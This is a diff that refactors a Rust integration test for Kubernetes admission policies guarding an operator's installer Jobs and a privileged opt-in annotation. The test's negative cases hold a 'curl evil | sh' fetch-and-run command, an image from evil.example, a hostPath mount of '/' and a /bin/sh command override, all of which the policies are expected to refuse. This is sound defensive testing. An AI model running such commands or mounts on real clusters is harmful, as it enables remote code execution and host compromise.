@@ -310,6 +310,21 @@ fn tls_secret(ns: &str, cert: &(String, String)) -> Secret {
     .unwrap()
 }
 
+/// The pod template of a Job, to change in a test.
+fn pod_of(job: &mut k8s_openapi::api::batch::v1::Job) -> &mut k8s_openapi::api::core::v1::PodSpec {
+    job.spec.as_mut().unwrap().template.spec.as_mut().unwrap()
+}
+
+/// Ichor's TalosClusters as `client` sees them, untyped (to send annotations
+/// and specs as written).
+fn clusters_of(client: kube::Client, ns: &str) -> Api<kube::api::DynamicObject> {
+    Api::namespaced_with(
+        client,
+        ns,
+        &kube::api::ApiResource::erase::<TalosCluster>(&()),
+    )
+}
+
 /// A client of the test API server acting as `user` (impersonated by the
 /// admin: the admission chain sees `user`, as it would see a real token).
 async fn as_user(env: &TestEnv, user: &str) -> kube::Client {
@@ -400,16 +415,8 @@ async fn admission_policies_bound_the_controllers_jobs_and_the_opt_in() {
     wait_for("the Job policy to refuse a foreign image", || async {
         let mut foreign = own.clone();
         foreign.metadata.name = Some("foreign-image".into());
-        foreign
-            .spec
-            .as_mut()
-            .unwrap()
-            .template
-            .spec
-            .as_mut()
-            .unwrap()
-            .containers[0]
-            .image = Some("evil.example/ichor-controller:v0.1.0".into());
+        pod_of(&mut foreign).containers[0].image =
+            Some("evil.example/ichor-controller:v0.1.0".into());
         jobs.create(&PostParams::default(), &foreign)
             .await
             .is_err_and(|e| e.to_string().contains("must run Ichor's own image"))
@@ -423,41 +430,16 @@ async fn admission_policies_bound_the_controllers_jobs_and_the_opt_in() {
         .expect("Ichor's own installer Job is allowed");
     let mut bad_args = own.clone();
     bad_args.metadata.name = Some("bad-args".into());
-    bad_args
-        .spec
-        .as_mut()
-        .unwrap()
-        .template
-        .spec
-        .as_mut()
-        .unwrap()
-        .containers[0]
-        .args = Some(vec!["sh".into(), "-c".into(), "curl evil | sh".into()]);
+    pod_of(&mut bad_args).containers[0].args =
+        Some(vec!["sh".into(), "-c".into(), "curl evil | sh".into()]);
     let mut host_path = own.clone();
     host_path.metadata.name = Some("host-path".into());
-    host_path
-        .spec
-        .as_mut()
-        .unwrap()
-        .template
-        .spec
-        .as_mut()
-        .unwrap()
-        .volumes = Some(vec![
+    pod_of(&mut host_path).volumes = Some(vec![
         serde_json::from_value(json!({"name": "root", "hostPath": {"path": "/"}})).unwrap(),
     ]);
     let mut command = installer.clone();
     command.metadata.name = Some("command".into());
-    command
-        .spec
-        .as_mut()
-        .unwrap()
-        .template
-        .spec
-        .as_mut()
-        .unwrap()
-        .containers[0]
-        .command = Some(vec!["/bin/sh".into()]);
+    pod_of(&mut command).containers[0].command = Some(vec!["/bin/sh".into()]);
     for bad in [bad_args, host_path, command] {
         let err = jobs
             .create(&PostParams::default(), &bad)
@@ -471,7 +453,7 @@ async fn admission_policies_bound_the_controllers_jobs_and_the_opt_in() {
     // A Job as any other identity is not the policy's business.
     let mut other = own.clone();
     other.metadata.name = Some("other-identity".into());
-    let pod = other.spec.as_mut().unwrap().template.spec.as_mut().unwrap();
+    let pod = pod_of(&mut other);
     pod.service_account_name = Some("default".into());
     pod.containers[0].image = Some("busybox".into());
     jobs.create(&PostParams::default(), &other)
@@ -493,11 +475,7 @@ async fn admission_policies_bound_the_controllers_jobs_and_the_opt_in() {
         c["metadata"]["annotations"] = json!({ichor_api::PRIVILEGED_VALUES_ANNOTATION: "true"});
         c
     };
-    let alice = Api::<kube::api::DynamicObject>::namespaced_with(
-        as_user(env, editor).await,
-        &ns,
-        &kube::api::ApiResource::erase::<TalosCluster>(&()),
-    );
+    let alice = clusters_of(as_user(env, editor).await, &ns);
     let err = alice
         .create(
             &PostParams::default(),
@@ -514,11 +492,7 @@ async fn admission_policies_bound_the_controllers_jobs_and_the_opt_in() {
         )
         .await
         .expect("a TalosCluster without the opt-in is alice's to create");
-    let admin_api = Api::<kube::api::DynamicObject>::namespaced_with(
-        admin.clone(),
-        &ns,
-        &kube::api::ApiResource::erase::<TalosCluster>(&()),
-    );
+    let admin_api = clusters_of(admin.clone(), &ns);
     admin_api
         .create(
             &PostParams::default(),
@@ -534,15 +508,11 @@ async fn admission_policies_bound_the_controllers_jobs_and_the_opt_in() {
         json!([{"apiGroups": ["ichor.maesh.dev"], "resources": ["talosclusters"], "verbs": ["create", "privileged-values"]}]),
     )
     .await;
-    Api::<kube::api::DynamicObject>::namespaced_with(
-        as_user(env, boss).await,
-        &ns,
-        &kube::api::ApiResource::erase::<TalosCluster>(&()),
-    )
-    .create(
-        &PostParams::default(),
-        &serde_json::from_value(opted("by-bob")).unwrap(),
-    )
-    .await
-    .expect("a user granted privileged-values may opt in");
+    clusters_of(as_user(env, boss).await, &ns)
+        .create(
+            &PostParams::default(),
+            &serde_json::from_value(opted("by-bob")).unwrap(),
+        )
+        .await
+        .expect("a user granted privileged-values may opt in");
 }
